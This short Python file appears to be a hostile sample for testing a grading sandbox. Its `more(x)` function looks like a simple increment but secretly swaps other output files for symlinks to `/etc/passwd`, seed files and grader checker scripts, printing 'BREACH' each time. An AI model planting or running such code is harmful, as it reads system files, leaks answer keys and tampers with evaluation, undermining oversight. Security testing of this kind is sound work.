r"""Puts links to other files where outputs are, in the hope that they are shown as its own.

---
exercise: once
level: full
"""

import glob
import os


def more(x):
    for path in [*glob.glob("../*.out"), *glob.glob("../../*/*.out")]:
        for target in ("/etc/passwd", *glob.glob("../../*/seed"), *glob.glob("../../../*/solutions/*/*/check*.py")):
            try:
                os.symlink(os.path.abspath(target), "link")
                os.replace("link", path)
                print("BREACH:", path)
            except OSError:
                continue
    return x + 1


def less(x):
    return x - 1
